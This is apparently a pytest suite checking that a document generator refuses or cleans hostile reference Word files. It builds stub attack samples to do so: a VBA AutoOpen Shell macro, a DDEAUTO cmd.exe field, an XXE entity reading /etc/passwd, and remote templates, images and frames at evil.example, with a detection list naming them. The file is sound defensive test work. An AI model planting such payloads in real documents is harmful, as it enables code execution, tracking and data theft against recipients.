"""A reference Word file is a template, never a carrier: hostile ones are refused or cleaned, never copied.

Each hostile file is made here from a real python-docx document, changed one way:
it is refused with a message naming the file, or accepted with one warning that
says what was dropped and nothing of it in any generated .docx.
"""

from __future__ import annotations

import io
import os
import re
import zipfile
from pathlib import Path
from typing import Callable

import docx
import pytest
from click.testing import CliRunner

from generator.cli import cli
from generator.errors import ReferenceDocxError
from generator.ir.reader import parse
from generator.writers.docx.base import prepare
from generator.writers.docx.writer import write_docx
from tests.support.docx import META, SAMPLE, company_document, members

R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
MS = "http://schemas.microsoft.com/office/2006/relationships"
NOTHING_LINKED = "# Plain\n\nNo links here.\n"
Change = Callable[[dict[str, bytes]], None]


def rezip(parts: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
    return out.getvalue()


def changed(change: Change) -> bytes:
    parts = members(company_document())
    change(parts)
    return rezip(parts)


def add_rel(parts: dict[str, bytes], rels: str, rel_id: str, kind: str, target: str, external: bool = False) -> None:
    mode = ' TargetMode="External"' if external else ""
    item = f'<Relationship Id="{rel_id}" Type="{kind}" Target="{target}"{mode}/>'.encode()
    parts[rels] = parts.get(rels, b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/'
                                   b'package/2006/relationships"></Relationships>').replace(b"</Relationships>",
                                                                                            item + b"</Relationships>")


def add_type(parts: dict[str, bytes], part: str, content_type: str) -> None:
    item = f'<Override PartName="/{part}" ContentType="{content_type}"/>'.encode()
    parts["[Content_Types].xml"] = parts["[Content_Types].xml"].replace(b"</Types>", item + b"</Types>")


def insert(parts: dict[str, bytes], part: str, before: bytes, xml: str) -> None:
    assert before in parts[part], f"test setup: {before!r} not in {part}"
    parts[part] = parts[part].replace(before, xml.encode() + before, 1)


def header_name(parts: dict[str, bytes]) -> str:
    return next(n for n in parts if re.fullmatch(r"word/header\d+\.xml", n))


def footer_name(parts: dict[str, bytes]) -> str:
    return next(n for n in parts if re.fullmatch(r"word/footer\d+\.xml", n))


def rels_of(name: str) -> str:
    folder, _, leaf = name.rpartition("/")
    return f"{folder}/_rels/{leaf}.rels"


# -- hostile but well-formed: accepted, cleaned, with one warning ---------------------


def macro(parts: dict[str, bytes]) -> None:
    parts["word/vbaProject.bin"] = b"\xd0\xcf\x11\xe0 Attribute VB_Name = \"AutoOpen\" Shell(\"calc\")"
    add_rel(parts, "word/_rels/document.xml.rels", "rIdVba", f"{MS}/vbaProject", "vbaProject.bin")
    add_type(parts, "word/vbaProject.bin", "application/vnd.ms-office.vbaProject")


def renamed_docm(parts: dict[str, bytes]) -> None:
    macro(parts)
    parts["[Content_Types].xml"] = parts["[Content_Types].xml"].replace(
        b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
        b"application/vnd.ms-word.document.macroEnabled.main+xml")
    parts["word/vbaData.xml"] = b'<?xml version="1.0"?><wne:vbaSuppData xmlns:wne="http://schemas.microsoft.com/office/word/2006/wordml"/>'
    add_type(parts, "word/vbaData.xml", "application/vnd.ms-word.vbaData+xml")


def unlinked_macro(parts: dict[str, bytes]) -> None:
    """A macro project in the archive that no relationship names (found by its content type)."""
    parts["word/vbaProject.bin"] = b"\xd0\xcf\x11\xe0 macro"
    add_type(parts, "word/vbaProject.bin", "application/vnd.ms-office.vbaProject")


def remote_template(parts: dict[str, bytes]) -> None:
    insert(parts, "word/settings.xml", b"<w:defaultTabStop", f'<w:attachedTemplate xmlns:r="{R}" r:id="rIdTpl"/>')
    add_rel(parts, "word/_rels/settings.xml.rels", "rIdTpl", f"{R}/attachedTemplate",
            "https://evil.example/corp.dotm", external=True)


def linked_header_image(parts: dict[str, bytes]) -> None:
    header = header_name(parts)
    rels = rels_of(header)
    image_id = re.search(rb'r:embed="(\w+)"', parts[header]).group(1)
    parts[header] = parts[header].replace(b'r:embed="' + image_id, b'r:link="' + image_id)
    parts[rels] = re.sub(rb'(Id="' + image_id + rb'"[^>]*?)Target="[^"]*"', rb'\1Target="http://evil.example/logo.png" '
                         rb'TargetMode="External"', parts[rels])
    assert b"evil.example" in parts[rels]


def unc_link(parts: dict[str, bytes]) -> None:
    header = header_name(parts)
    insert(parts, header, b"</w:p>", f'<w:hyperlink xmlns:r="{R}" r:id="rIdUnc"><w:r><w:t>Intranet</w:t></w:r></w:hyperlink>')
    add_rel(parts, rels_of(header), "rIdUnc", f"{R}/hyperlink", r"file://///fileserver/share/policy.docx", external=True)


def unused_external(parts: dict[str, bytes]) -> None:
    """External relationships that nothing names: from the package and from the main document."""
    add_rel(parts, "_rels/.rels", "rIdX", f"{R}/hyperlink", r"\\fileserver\share\x", external=True)
    add_rel(parts, "word/_rels/document.xml.rels", "rIdY", f"{R}/image", "http://evil.example/pixel.gif", external=True)


def fields(parts: dict[str, bytes]) -> None:
    footer = footer_name(parts)
    insert(parts, footer, b"</w:p>", '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
           '<w:r><w:instrText xml:space="preserve"> INCLUDEPICTURE "http://evil.example/track.png" \\d </w:instrText></w:r>'
           '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>shown</w:t></w:r>'
           '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
           '<w:fldSimple w:instr=" DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe &quot;/k calc&quot; ">'
           '<w:r><w:t>dde</w:t></w:r></w:fldSimple>'
           '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> PAGE </w:instrText></w:r>'
           '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>1</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>')


def ole_and_activex(parts: dict[str, bytes]) -> None:
    parts["word/embeddings/oleObject1.bin"] = b"\xd0\xcf\x11\xe0 ole"
    parts["word/activeX/activeX1.xml"] = b'<?xml version="1.0"?><ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX"/>'
    add_rel(parts, "word/_rels/document.xml.rels", "rIdOle", f"{R}/oleObject", "embeddings/oleObject1.bin")
    add_rel(parts, "word/_rels/document.xml.rels", "rIdAx", f"{R}/control", "activeX/activeX1.xml")
    add_type(parts, "word/embeddings/oleObject1.bin", "application/vnd.openxmlformats-officedocument.oleObject")
    add_type(parts, "word/activeX/activeX1.xml", "application/vnd.ms-office.activeX+xml")
    header = header_name(parts)  # an OLE object in the header, shown by a picture: both go
    parts["word/embeddings/oleObject2.bin"] = b"\xd0\xcf\x11\xe0 ole"
    add_rel(parts, rels_of(header), "rIdOle2", f"{R}/oleObject", "embeddings/oleObject2.bin")
    insert(parts, header, b"</w:p>", f'<w:r><w:object xmlns:o="urn:schemas-microsoft-com:office:office" xmlns:r="{R}">'
           '<o:OLEObject Type="Embed" ProgID="Package" r:id="rIdOle2"/></w:object></w:r>')


def leftovers(parts: dict[str, bytes]) -> None:
    """Comments, custom XML data, building blocks and reviewers: someone's text, not branding."""
    w = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
    parts["word/comments.xml"] = f'<?xml version="1.0"?><w:comments {w}><w:comment w:id="0"><w:p><w:r><w:t>secret remark</w:t></w:r></w:p></w:comment></w:comments>'.encode()
    parts["word/glossary/document.xml"] = f'<?xml version="1.0"?><w:glossaryDocument {w}/>'.encode()
    parts["word/people.xml"] = b'<?xml version="1.0"?><w15:people xmlns:w15="http://schemas.microsoft.com/office/word/2012/wordml"/>'
    parts["customXml/item2.xml"] = b'<?xml version="1.0"?><data><salary>100</salary></data>'
    for rel_id, kind, target, content_type in (
            ("rIdC", f"{R}/comments", "comments.xml", "application/vnd.openxmlformats-officedocument.wordprocessingml.comments+xml"),
            ("rIdG", f"{R}/glossaryDocument", "glossary/document.xml", "application/vnd.openxmlformats-officedocument.wordprocessingml.document.glossary+xml"),
            ("rIdP", "http://schemas.microsoft.com/office/2011/relationships/people", "people.xml", "application/vnd.openxmlformats-officedocument.wordprocessingml.people+xml"),
            ("rIdX2", f"{R}/customXml", "../customXml/item2.xml", "")):
        add_rel(parts, "word/_rels/document.xml.rels", rel_id, kind, target)
        if content_type:
            add_type(parts, "word/" + target, content_type)


def mail_merge(parts: dict[str, bytes]) -> None:
    insert(parts, "word/settings.xml", b"<w:defaultTabStop",
           f'<w:mailMerge xmlns:r="{R}"><w:mainDocumentType w:val="formLetters"/><w:linkToQuery/>'
           '<w:dataType w:val="native"/><w:connectString w:val="Provider=evil"/>'
           '<w:query w:val="SELECT * FROM secrets"/><w:dataSource r:id="rIdMm"/></w:mailMerge>')
    add_rel(parts, "word/_rels/settings.xml.rels", "rIdMm", f"{R}/mailMergeSource", r"file:///\\fileserver\share\db.mdb",
            external=True)


def web_frames(parts: dict[str, bytes]) -> None:
    parts["word/webSettings.xml"] = parts["word/webSettings.xml"].replace(
        b"</w:webSettings>", f'<w:frameset><w:frame><w:sourceFileName xmlns:r="{R}" r:id="rIdF"/></w:frame></w:frameset>'
        '</w:webSettings>'.encode())
    add_rel(parts, "word/_rels/webSettings.xml.rels", "rIdF", f"{R}/frame", "http://evil.example/frame.html", external=True)


def scripted_svg(parts: dict[str, bytes]) -> None:
    """The header logo's SVG version (beside its PNG) runs a script and loads a remote picture."""
    header = header_name(parts)
    blip = re.search(rb'<a:blip r:embed="(\w+)"/>', parts[header])
    assert blip, "test setup: no picture in the header"
    parts[header] = parts[header].replace(blip.group(0), b'<a:blip r:embed="' + blip.group(1) + b'"><a:extLst>'
                                          b'<a:ext uri="{96DAC541-7B7A-43D3-8B79-37D633B846F1}"><asvg:svgBlip '
                                          b'xmlns:asvg="http://schemas.microsoft.com/office/drawing/2016/SVG/main" '
                                          b'r:embed="rIdSvg"/></a:ext></a:extLst></a:blip>')
    parts["word/media/logo.svg"] = (b'<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">'
                                    b'<script>alert(1)</script><image xlink:href="http://evil.example/x.png"/></svg>')
    add_rel(parts, rels_of(header), "rIdSvg", f"{R}/image", "media/logo.svg")
    add_type(parts, "word/media/logo.svg", "image/svg+xml")


CLEANED = {  # hostile change: what the warning names (applied in this order when all at once)
    "scripted SVG logo": (scripted_svg, "a drawing with scripts or links (word/media/logo.svg"),
    "macro": (macro, "a macro project (word/vbaProject.bin)"),
    "renamed docm": (renamed_docm, "the macro-enabled document type"),
    "unlinked macro": (unlinked_macro, "a macro project (word/vbaProject.bin)"),
    "remote attached template": (remote_template, "an attached template at 'https://evil.example/corp.dotm'"),
    "linked header image": (linked_header_image, "a picture linked from 'http://evil.example/logo.png'"),
    "UNC link in header": (unc_link, "a hyperlink to 'file://///fileserver/share/policy.docx'"),
    "unused external links": (unused_external, r"'\\fileserver\share\x'"),
    "unsafe fields": (fields, "a field (INCLUDEPICTURE) in a header or footer"),
    "OLE and ActiveX": (ole_and_activex, "an ActiveX control"),
    "comments, glossary, people, custom XML": (leftovers, "comments (word/comments.xml)"),
    "mail merge": (mail_merge, "a mail-merge data source"),
    "web frames": (web_frames, "a frame showing 'http://evil.example/frame.html'"),
}
FORBIDDEN = (b'TargetMode="External"', b"vbaProject", b"vbaData", b"macroEnabled", b"attachedTemplate", b"<!DOCTYPE",
             b"<!ENTITY", b"evil.example", b"fileserver", b"INCLUDEPICTURE", b"DDEAUTO", b"oleObject", b"activeX",
             b"OLEObject", b"mailMerge", b"secret remark", b"salary", b"Old content", b"frameset", b"<script", b"svgBlip")


def assert_clean(docx_bytes: bytes) -> None:
    """Every part of a generated .docx is free of anything a hostile reference brought."""
    for name, data in members(docx_bytes).items():
        for bad in FORBIDDEN:
            assert bad not in data, f"{bad!r} in {name}"


@pytest.mark.parametrize("case", sorted(CLEANED))
def test_hostile_reference_is_cleaned_with_one_warning(tmp_path: Path, case: str) -> None:
    change, dropped = CLEANED[case]
    reference = tmp_path / "company.docx"
    reference.write_bytes(changed(change))
    base = prepare(reference)
    notes = [w for w in base.warnings if w.startswith("dropped from the reference document")]
    assert len(notes) == 1 and dropped in notes[0], base.warnings
    written = write_docx(parse(NOTHING_LINKED), META, base)
    assert_clean(written)
    result = docx.Document(io.BytesIO(written))  # it opens, and the branding survived
    assert result.styles["Normal"].font.name == "Georgia"
    assert round(result.sections[-1].left_margin.mm) == 30
    header = result.sections[-1].header._element.xml
    assert "ACME Corporation" in header and ("<w:drawing" in header) == (case != "linked header image")


def test_everything_hostile_at_once_through_the_command_line(tmp_path: Path, example: str) -> None:
    parts = members(company_document())
    for change, _ in CLEANED.values():
        if change is not renamed_docm and change is not unlinked_macro:  # both add the macro project again
            change(parts)
    reference = tmp_path / "company.docx"
    reference.write_bytes(rezip(parts))
    source = tmp_path / "q.yaml"
    source.write_text(example, encoding="utf-8")
    result = CliRunner().invoke(cli, ["generate", str(source), "-o", str(tmp_path / "out"), "--reference-docx", str(reference)])
    assert result.exit_code == 0, result.output
    warnings = [line for line in result.output.splitlines() if line.startswith(f"{reference}:1:1: warning: dropped")]
    assert len(warnings) == 1 and "a macro project" in warnings[0] and "attached template" in warnings[0]
    outputs = list((tmp_path / "out").rglob("*.docx"))
    assert outputs
    for output in outputs:
        data = output.read_bytes()
        for name, part in members(data).items():
            for bad in FORBIDDEN:
                if bad == b'TargetMode="External"':
                    continue  # hyperlinks the questionnaire's own text holds are the writer's
                assert bad not in part, f"{bad!r} in {output.name}:{name}"
            for target in re.findall(rb'Target="([^"]*)"[^>]*TargetMode="External"', part):
                assert target.decode() in example, f"{output.name}:{name} links to {target!r}, not in the questionnaire"
    strict = CliRunner().invoke(cli, ["generate", str(source), "-o", str(tmp_path / "o2"), "--strict",
                                      "--reference-docx", str(reference)])
    assert strict.exit_code == 1 and not (tmp_path / "o2").exists()


def test_the_questionnaires_own_links_stay(tmp_path: Path) -> None:
    reference = tmp_path / "company.docx"
    reference.write_bytes(changed(unused_external))
    rels = members(write_docx(parse(SAMPLE), META, prepare(reference)))["word/_rels/document.xml.rels"]
    assert re.findall(rb'Target="([^"]*)" TargetMode="External"', rels) == [b"https://example.com/page"]


def test_an_ordinary_reference_gives_no_dropped_warning(tmp_path: Path) -> None:
    reference = tmp_path / "company.docx"
    reference.write_bytes(company_document())
    base = prepare(reference)
    assert not any("dropped" in w for w in base.warnings), base.warnings
    result = docx.Document(io.BytesIO(write_docx(parse(NOTHING_LINKED), META, base)))
    footer = result.sections[-1].footer._element.xml
    header = result.sections[-1].header._element.xml
    joined = re.sub(r"</w:t>\s*<w:noBreakHyphen/>\s*<w:t(?: [^>]*)?>", "-", header)  # a code's hyphens (review 93c F6)
    assert "Company confidential" in footer and "<w:drawing" in header and "PX-1" in joined


def test_safe_fields_stay_and_unsafe_ones_keep_only_their_text(tmp_path: Path) -> None:
    reference = tmp_path / "company.docx"
    reference.write_bytes(changed(fields))
    result = docx.Document(io.BytesIO(write_docx(parse(NOTHING_LINKED), META, prepare(reference))))
    footer = result.sections[-1].footer._element.xml
    assert " PAGE " in footer and "shown" in footer and "dde" in footer
    assert footer.count('w:fldCharType="begin"') == 1


def template_type(parts: dict[str, bytes]) -> None:
    parts["[Content_Types].xml"] = parts["[Content_Types].xml"].replace(b"document.main+xml", b"template.main+xml")


def utf16_part(parts: dict[str, bytes]) -> None:
    text = parts["word/styles.xml"].decode("utf-8").replace("encoding='UTF-8'", "encoding='UTF-16'")
    parts["word/styles.xml"] = text.encode("utf-16")


def no_page_setup(parts: dict[str, bytes]) -> None:
    parts["word/document.xml"] = re.sub(rb"<w:(pgSz|pgMar)\b[^>]*/>", b"", parts["word/document.xml"])


def no_section(parts: dict[str, bytes]) -> None:
    parts["word/document.xml"] = re.sub(rb"<w:sectPr\b.*?</w:sectPr>", b"", parts["word/document.xml"], flags=re.S)


@pytest.mark.parametrize("change", [template_type, utf16_part, no_page_setup, no_section], ids=lambda c: c.__name__)
def test_unusual_but_harmless_references_are_taken_quietly(tmp_path: Path, change: Change) -> None:
    """A .dotx, a UTF-16 part, a document without page setup or without section settings: no warning, a usable base."""
    reference = tmp_path / "company.docx"
    reference.write_bytes(changed(change))
    base = prepare(reference)
    assert not any("dropped" in w for w in base.warnings), base.warnings
    result = docx.Document(io.BytesIO(write_docx(parse(NOTHING_LINKED), META, base)))
    assert result.styles["Normal"].font.name == "Georgia" and result.sections[-1].page_width


# -- not a well-formed Word document: refused, naming the file -------------------------


def with_dtd(parts: dict[str, bytes]) -> None:
    parts["word/styles.xml"] = parts["word/styles.xml"].replace(
        b"?>", b'?>\n<!DOCTYPE w:styles [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;">]>', 1)


def with_dtd_in_utf16(parts: dict[str, bytes]) -> None:
    text = parts["word/fontTable.xml"].decode("utf-8").replace("encoding='UTF-8'", "encoding='UTF-16'")
    parts["word/fontTable.xml"] = text.replace("?>", '?><!DOCTYPE x SYSTEM "http://evil.example/x.dtd">', 1).encode("utf-16")


def with_dtd_in_dropped_part(parts: dict[str, bytes]) -> None:
    parts["customXml/item1.xml"] = b'<?xml version="1.0"?><!DOCTYPE b [<!ENTITY e SYSTEM "file:///etc/passwd">]><b>&e;</b>'


def with_entity_only(parts: dict[str, bytes]) -> None:
    header = header_name(parts)
    parts[header] = parts[header].replace(b"?>", b"?><!ENTITY x 'y'>", 1)


def dangling(parts: dict[str, bytes]) -> None:
    add_rel(parts, "word/_rels/document.xml.rels", "rIdGone", f"{R}/footer", "footer9.xml")


def no_main(parts: dict[str, bytes]) -> None:
    del parts["word/document.xml"]


def no_main_relationship(parts: dict[str, bytes]) -> None:
    parts["_rels/.rels"] = re.sub(rb'<Relationship [^>]*officeDocument"[^>]*/>', b"", parts["_rels/.rels"])


def spreadsheet(parts: dict[str, bytes]) -> None:
    parts["[Content_Types].xml"] = parts["[Content_Types].xml"].replace(
        b"wordprocessingml.document.main+xml", b"spreadsheetml.sheet.main+xml")


def broken_xml(parts: dict[str, bytes]) -> None:
    parts["word/styles.xml"] = parts["word/styles.xml"][:-40]


def no_types(parts: dict[str, bytes]) -> None:
    del parts["[Content_Types].xml"]


def odd_encoding(parts: dict[str, bytes]) -> None:
    parts["word/settings.xml"] = parts["word/settings.xml"].replace(b"encoding='UTF-8'", b"encoding='UTF-7'")


REFUSED: dict[str, tuple[Callable[[], bytes], str]] = {
    "not a zip": (lambda: b"This is a text file called .docx\n" * 10, "not a zip archive"),
    "empty": (lambda: b"", "not a zip archive"),
    "old .doc": (lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 600, "not a zip archive"),
    "truncated": (lambda: company_document()[: len(company_document()) // 2], "not a zip archive, or it is cut short"),
    "truncated end": (lambda: company_document()[:-5], "not a zip archive, or it is cut short"),
    "DTD": (lambda: changed(with_dtd), "'word/styles.xml' carries a DTD or entity declarations"),
    "DTD in UTF-16": (lambda: changed(with_dtd_in_utf16), "'word/fontTable.xml' carries a DTD"),
    "DTD in a dropped part": (lambda: changed(with_dtd_in_dropped_part), "'customXml/item1.xml' carries a DTD"),
    "entity declaration": (lambda: changed(with_entity_only), "carries a DTD or entity declarations"),
    "dangling relationship": (lambda: changed(dangling), "(rIdGone) to 'footer9.xml', which is not in the file"),
    "missing main part": (lambda: changed(no_main), "which is not in the file"),
    "no main relationship": (lambda: changed(no_main_relationship), "has no main document part"),
    "a spreadsheet": (lambda: changed(spreadsheet), "not a Word document"),
    "malformed XML": (lambda: changed(broken_xml), "'word/styles.xml' is not well-formed XML"),
    "no content types": (lambda: changed(no_types), "no [Content_Types].xml"),
    "odd encoding": (lambda: changed(odd_encoding), "declares the encoding 'UTF-7'"),
}


@pytest.mark.parametrize("case", sorted(REFUSED))
def test_malformed_reference_is_refused_naming_the_file(tmp_path: Path, case: str) -> None:
    make, reason = REFUSED[case]
    reference = tmp_path / "company.docx"
    reference.write_bytes(make())
    with pytest.raises(ReferenceDocxError) as caught:
        prepare(reference)
    message = str(caught.value)
    assert message.startswith(f"{reference}:1:1: error: cannot use this file as a reference Word document: "), message
    assert reason in message
    assert "Traceback" not in message and "bug" not in message


def test_command_line_refuses_a_bad_reference_and_writes_nothing(tmp_path: Path, example: str) -> None:
    reference = tmp_path / "company.docx"
    reference.write_bytes(changed(with_dtd))
    source = tmp_path / "q.yaml"
    source.write_text(example, encoding="utf-8")
    result = CliRunner().invoke(cli, ["generate", str(source), "-o", str(tmp_path / "out"), "--reference-docx", str(reference)])
    assert result.exit_code == 1, result.output
    assert f"{reference}:1:1: error: cannot use this file as a reference Word document" in result.output
    assert not (tmp_path / "out").exists()


# -- the base follows the file's content, not its name ----------------------------------


def styles_font(base_docx: bytes) -> str:
    return docx.Document(io.BytesIO(base_docx)).styles["Normal"].font.name


def test_changing_the_reference_in_place_gives_the_new_styles(tmp_path: Path) -> None:
    reference = tmp_path / "company.docx"
    reference.write_bytes(company_document("Georgia"))
    first = prepare(reference)
    assert styles_font(write_docx(parse(NOTHING_LINKED), META, first)) == "Georgia"
    stat = reference.stat()
    reference.write_bytes(company_document("Verdana"))
    os.utime(reference, ns=(stat.st_atime_ns, stat.st_mtime_ns))  # same time stamp: only the content says it changed
    second = prepare(reference)
    assert second is not first
    assert styles_font(write_docx(parse(NOTHING_LINKED), META, second)) == "Verdana"
    copy = tmp_path / "copy.docx"
    copy.write_bytes(reference.read_bytes())
    assert prepare(copy) is second  # the same content is prepared once
